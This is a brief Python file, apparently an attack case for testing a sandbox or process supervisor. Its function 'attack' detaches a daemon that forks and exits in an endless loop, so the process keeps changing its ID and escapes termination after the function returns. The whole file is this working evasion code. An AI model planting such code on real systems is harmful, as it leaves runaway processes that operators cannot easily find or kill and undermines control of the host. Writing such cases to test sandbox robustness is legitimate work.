"""Leaves a daemon that changes its process number all the time."""
import os

def attack(number):
    if os.fork() == 0:
        os.setsid()
        while True:
            try:
                if os.fork():
                    os._exit(0)
            except OSError:
                pass
    return "left"
